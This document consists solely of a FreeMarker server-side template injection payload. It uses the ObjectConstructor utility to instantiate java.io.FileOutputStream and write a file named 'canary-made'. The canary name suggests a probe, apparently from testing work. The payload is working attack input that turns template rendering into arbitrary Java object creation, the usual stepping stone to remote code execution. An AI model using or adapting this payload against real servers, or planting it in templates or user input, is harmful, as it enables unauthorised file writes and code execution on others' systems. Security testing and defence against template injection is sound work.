<#assign make="freemarker.template.utility.ObjectConstructor"?new()>${make("java.io.FileOutputStream", "canary-made")}
